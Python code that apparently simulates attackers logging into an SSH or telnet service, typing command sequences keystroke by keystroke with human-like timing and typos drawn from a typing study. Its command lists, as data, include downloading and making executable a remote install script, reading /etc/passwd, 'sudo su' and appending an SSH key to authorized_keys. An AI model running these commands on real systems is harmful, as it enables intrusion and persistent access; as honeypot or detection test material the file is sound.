"""People at a terminal: keys typed one by one into the real ``ssh`` and ``telnet``.

How fast and how evenly is drawn from Dhakal, Feit, Kristensson and Oulasvirta, "Observations on
Typing from 136 Million Keystrokes" (CHI 2018): of 168,000 people, the mean time between two keys
was 239 ms (standard deviation among people 112 ms), from 20 to more than 120 words a minute; 6.3 %
of the keys corrected something. Within a person, times between keys are log-normal, shorter for a
letter that is repeated.
"""

from __future__ import annotations

import asyncio
import contextlib
import fcntl
import math
import os
import pty
import random
import signal
import struct
import subprocess
import termios
import time
from collections.abc import Sequence
from pathlib import Path

from attackers import HOST, Ports
from attrs import define, field, frozen

UP, BACKSPACE, TAB, CTRL_C, CTRL_D, CTRL_U = "\x1b[A", "\x7f", "\t", "\x03", "\x04", "\x15"
NEIGHBOURS = {
    "a": "sq",
    "s": "ad",
    "d": "sf",
    "e": "wr",
    "r": "et",
    "t": "ry",
    "i": "uo",
    "o": "ip",
    "n": "bm",
    "m": "n,",
    "l": "k;",
    "c": "xv",
    "p": "o[",
    "u": "yi",
    "w": "qe",
}
WINDOWS = ["120x30", "211x52", "147x41", "80x24", "190x48", "100x28", "236x61", "133x37"]
PLANS: Sequence[Sequence[str]] = (
    ("ls",),
    ("w", "ls -la", "exit"),
    ("whoami", "id", "uname -a", "pwd", "exit"),
    ("cd /tmp", "ls", "wget http://198.51.100.9/x.sh", "cat x.sh", "rm x.sh"),
    ("cat /etc/passwd", "cat /etc/issue", "free -m", "df -h", "exit"),
    ("ps aux", "top", "netstat -tulpn", "history", "exit"),
    ("uname -a", "nproc", "cat /proc/cpuinfo", "lscpu", "uptime", "last", "logout"),
    ("cd /var/log", "ls -la", "tail auth.log", "cd ..", "ls", "cd", "exit"),
    ("mkdir test", "cd test", "touch a", "ls -l", "cd ..", "rm -rf test", "exit"),
    ("sudo su", "passwd", "exit"),
    ("ping 198.51.100.7", "ifconfig", "ip a", "route", "exit"),
    ("hostname",),
)
LONG = (
    "curl -fsSL http://198.51.100.9/install.sh -o /tmp/install.sh && chmod +x /tmp/install.sh",
    "cat /etc/passwd | grep -v nologin | cut -d: -f1,3,6 | sort | head -n 20",
    "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 me@home' >> ~/.ssh/authorized_keys",
)


@frozen
class Typist:
    """A person."""

    gap: float
    """Mean seconds between two keys."""
    spread: float
    """Their standard deviation / mean."""
    errors: float
    """Of all keys."""
    pause: float
    """Median seconds of thought before a command."""
    pastes: float
    """Of all commands."""

    @classmethod
    def drawn(cls, chance: random.Random, *, pastes: float = 0.0) -> Typist:
        """Return a person as the study has them."""
        mean, deviation = 0.239, 0.112
        sigma = math.sqrt(math.log(1 + (deviation / mean) ** 2))
        gap = min(0.55, max(0.08, chance.lognormvariate(math.log(mean) - sigma**2 / 2, sigma)))
        return cls(
            gap,
            chance.uniform(0.3, 0.65),
            chance.uniform(0.0, 0.06),
            chance.uniform(0.7, 2.5),
            pastes,
        )

    def between(self, chance: random.Random, before: str, key: str) -> float:
        """Return the seconds from one key to the next."""
        sigma = math.sqrt(math.log(1 + self.spread**2))
        mean = self.gap * (0.75 if before == key else 1.0)
        return chance.lognormvariate(math.log(mean) - sigma**2 / 2, sigma)

    def thought(self, chance: random.Random) -> float:
        """Return the seconds before a command."""
        return min(12.0, chance.lognormvariate(math.log(self.pause), 0.7))


@define(eq=False)
class Terminal:
    """A program on a terminal of its own."""

    command: Sequence[str]
    window: str
    late: list[float] = field(factory=list)
    """By how many seconds each key came late."""
    seen: bytes = field(default=b"", init=False)
    _master: int = field(init=False)
    _process: subprocess.Popen[bytes] = field(init=False)
    _news: asyncio.Event = field(factory=asyncio.Event, init=False)

    def __attrs_post_init__(self) -> None:
        self._master, slave = pty.openpty()
        self.resize(self.window)
        self._process = subprocess.Popen(
            self.command, stdin=slave, stdout=slave, stderr=slave, start_new_session=True,
            preexec_fn=lambda: fcntl.ioctl(0, termios.TIOCSCTTY, 0),  # noqa: PLW1509
        )  # fmt: skip
        os.close(slave)
        os.set_blocking(self._master, False)
        asyncio.get_running_loop().add_reader(self._master, self._read)

    def _read(self) -> None:
        try:
            data = os.read(self._master, 65_536)
        except OSError:
            data = b""
        if not data:
            asyncio.get_running_loop().remove_reader(self._master)
        self.seen = (self.seen + data)[-65_536:]
        self._news.set()

    def resize(self, window: str) -> None:
        """Drag the window."""
        columns, rows = map(int, window.split("x"))
        fcntl.ioctl(self._master, termios.TIOCSWINSZ, struct.pack("HHHH", rows, columns, 0, 0))

    async def until(self, text: bytes, seconds: float = 60) -> None:
        """Wait until the program says something, once."""
        await asyncio.wait_for(self._until(text), seconds)

    async def _until(self, text: bytes) -> None:
        while text not in self.seen:
            self._news.clear()
            await self._news.wait()
        self.seen = self.seen.partition(text)[2]

    def send(self, keys: str) -> None:
        """Press keys at once."""
        with contextlib.suppress(OSError):
            os.write(self._master, keys.encode())

    async def rest(self, seconds: float) -> None:
        """Wait, and note how late that ended."""
        until = time.monotonic() + seconds
        await asyncio.sleep(seconds)
        self.late.append(time.monotonic() - until)

    async def ended(self, seconds: float = 20) -> None:
        """Wait for the program's end."""
        for _ in range(int(seconds * 10)):
            if self._process.poll() is not None:
                break
            await asyncio.sleep(0.1)
        self.close()

    def close(self) -> None:
        """Close the window."""
        with contextlib.suppress(ProcessLookupError):
            os.killpg(self._process.pid, signal.SIGHUP)
        with contextlib.suppress(Exception):
            asyncio.get_running_loop().remove_reader(self._master)
        with contextlib.suppress(OSError):
            os.close(self._master)
        self._process.wait()


async def type_text(terminal: Terminal, who: Typist, chance: random.Random, text: str) -> None:
    """Type a text, with typing errors that are noticed at once or a little later."""
    before = ""
    at = 0
    while at < len(text):
        key = text[at]
        if before:
            await terminal.rest(who.between(chance, before, key))
        if key in NEIGHBOURS and chance.random() < who.errors:
            terminal.send(chance.choice(NEIGHBOURS[key]))
            more = chance.choice((0, 0, 0, 1)) if at + 1 < len(text) else 0
            for extra in text[at + 1 : at + 1 + more]:
                await terminal.rest(who.between(chance, key, extra))
                terminal.send(extra)
            await terminal.rest(who.gap * chance.uniform(1.5, 4))  # noticed
            for number in range(1 + more):
                if number:
                    await terminal.rest(who.between(chance, BACKSPACE, BACKSPACE))
                terminal.send(BACKSPACE)
            before = BACKSPACE
            continue
        terminal.send(key)
        before = key
        at += 1


async def run_plan(
    terminal: Terminal, who: Typist, chance: random.Random, plan: Sequence[str]
) -> None:
    """Give commands, typed or pasted, now and then with Tab, an arrow or Ctrl-C."""
    for number, line in enumerate(plan):
        await terminal.rest(who.thought(chance))
        if chance.random() < who.pastes and line not in {"exit", "logout"}:
            terminal.send(line)
            await terminal.rest(chance.uniform(0.15, 1.2))
        elif number and line == plan[number - 1]:
            terminal.send(UP)
            await terminal.rest(who.gap * 2)
        elif " " in line and chance.random() < 0.15:
            cut = line.index(" ") + 2
            await type_text(terminal, who, chance, line[:cut])
            await terminal.rest(who.gap)
            terminal.send(TAB)
            await terminal.rest(who.gap * chance.uniform(1, 3))
            terminal.send(CTRL_U)
            await terminal.rest(who.gap * 2)
            await type_text(terminal, who, chance, line)
        else:
            await type_text(terminal, who, chance, line)
        await terminal.rest(who.gap * chance.uniform(0.6, 1.6))
        terminal.send("\r")
        if line in {"top", "passwd", "sudo su"} or line.startswith("ping"):
            await terminal.rest(chance.uniform(1.5, 3))
            terminal.send(CTRL_C)


async def person(  # noqa: PLR0913, PLR0917 - who, where and what
    ports: Ports, password: str, chance: random.Random, kind: str, plan: Sequence[str], folder: Path
) -> list[float]:
    """Let somebody log in and do something; return by how many seconds each key came late.

    ``kind``: ``typed``, ``pasted`` (nearly everything), ``mixed``, ``resized`` or ``telnet``.
    """
    who = Typist.drawn(chance, pastes={"pasted": 0.9, "mixed": 0.4}.get(kind, 0.0))
    if kind == "telnet":
        command = ["telnet", HOST, str(ports.telnet)]
        dialogue = [(b"login: ", "root"), (b"assword: ", password)]
    else:
        options = [
            *("-o", "StrictHostKeyChecking=no", "-o", f"UserKnownHostsFile={folder / 'known'}"),
            *("-o", "PubkeyAuthentication=no", "-F", "none", "-p", str(ports.ssh)),
        ]
        command = ["ssh", *options, f"root@{HOST}"]
        dialogue = [(b"assword: ", password)]
    terminal = Terminal(command, chance.choice(WINDOWS))
    try:
        for prompt, answer in dialogue:
            await terminal.until(prompt)
            await terminal.rest(who.thought(chance) / 2)
            await type_text(terminal, who, chance, answer)
            await terminal.rest(who.gap)
            terminal.send("\r")
        await terminal.until(b"# ")
        if kind == "resized":
            await terminal.rest(1.0)
            terminal.resize(chance.choice(WINDOWS))
        await run_plan(terminal, who, chance, plan)
        if plan[-1] in {"exit", "logout"}:
            await terminal.ended()
        else:
            await terminal.rest(who.thought(chance))
            if chance.random() < 0.5:
                terminal.send(CTRL_D)
                await terminal.ended()
    finally:
        terminal.close()
    return terminal.late
